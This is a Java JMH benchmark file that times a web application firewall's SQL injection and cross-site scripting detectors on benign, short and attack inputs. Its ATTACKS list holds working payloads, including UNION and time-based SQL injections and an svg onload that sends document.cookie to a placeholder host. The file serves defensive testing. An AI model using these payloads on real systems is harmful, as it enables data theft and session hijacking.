// SPDX-License-Identifier: Apache-2.0
package dev.resty.benchmarks;

import dev.resty.servlet.waf.injection.ScriptInjection;
import dev.resty.servlet.waf.injection.SqlInjection;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Level;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Param;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Warmup;

/** SecLang's {@code @detectSQLi} and {@code @detectXSS}: nanoseconds for one argument, over eight in turn. */
@State(Scope.Benchmark)
@BenchmarkMode(Mode.AverageTime)
@OutputTimeUnit(TimeUnit.NANOSECONDS)
@Fork(
        value = 1,
        jvmArgsAppend = {"-Xms512m", "-Xmx512m", "-XX:+UseParallelGC"})
@Warmup(iterations = 3, time = 1)
@Measurement(iterations = 5, time = 1)
public class InjectionBench {

    private static final List<String> BENIGN = List.of(
            "Mozilla/5.0 (X11; Linux x86_64; rv:139.0) Gecko/20100101 Firefox/139.0",
            "We'd like to select a table for four near the window, and the union of both lists would be fine with us.",
            "session=4f1e77a2c09b4d6e8a; theme=dark; consent=%7B%22v%22%3A2%2C%22ads%22%3Afalse%7D; tz=Europe/Dublin",
            "https://shop.example.org/catalogue/lamps?colour=green&sort=price&page=2#results",
            "7c1f6b1e-52b4-4f0a-9d7e-3e0b6a0c9f11",
            "Maeve O'Brien-Murphy, 12 King's Road, Flat 3/B",
            "{\"id\":4711,\"name\":\"Desk lamp\",\"tags\":[\"new\",\"sale\"],\"price\":{\"amount\":39.5,\"currency\":\"EUR\"},\"stock\":null}",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0NzExIiwicm9sZSI6InVzZXIifQ.b0x9qTt1mJc");

    private static final List<String> SHORT =
            List.of("4711", "true", "green", "2026-11-22", "en-IE", "39.50", "desk lamp", "a8f3c0d1e2b4");

    private static final List<String> ATTACKS = List.of(
            "4711 union all select card, pin from customers-- -",
            "maeve' or '7'='7",
            "x') and 7=(select count(*) from pg_sleep(9))--",
            "-1/**/procedure/**/analyse(extractvalue(7,concat(0x7e,version())),7)",
            "<script src=//x.example/y.js></script>",
            "lamp\" onmouseover=\"alert(7)",
            "<a href=\"java&#115;cript:alert(7)\">lamps</a>",
            "<svg/onload=fetch('//x.example/'+document.cookie)>");

    /** Which arguments. */
    @Param({"BENIGN", "SHORT", "ATTACKS"})
    public String arguments = "BENIGN";

    private byte[][] inputs = {};

    private int turn;

    /** Chooses the arguments. */
    @Setup(Level.Trial)
    public void choose() {
        List<String> chosen =
                switch (arguments) {
                    case "BENIGN" -> BENIGN;
                    case "SHORT" -> SHORT;
                    default -> ATTACKS;
                };
        inputs = chosen.stream()
                .map(text -> text.getBytes(StandardCharsets.ISO_8859_1))
                .toArray(byte[][]::new);
        for (byte[] input : inputs) {
            boolean attack = SqlInjection.fingerprint(input, 0, input.length) != null
                    || ScriptInjection.isAttack(input, 0, input.length);
            if (attack != arguments.equals("ATTACKS")) {
                throw new IllegalStateException(new String(input, StandardCharsets.ISO_8859_1));
            }
        }
    }

    private byte[] next() {
        return inputs[turn++ & 7];
    }

    /** An argument's verdict on SQL. */
    @Benchmark
    public boolean injectionSql() {
        byte[] input = next();
        return SqlInjection.fingerprint(input, 0, input.length) != null;
    }

    /** An argument's verdict on scripts. */
    @Benchmark
    public boolean injectionScript() {
        byte[] input = next();
        return ScriptInjection.isAttack(input, 0, input.length);
    }
}
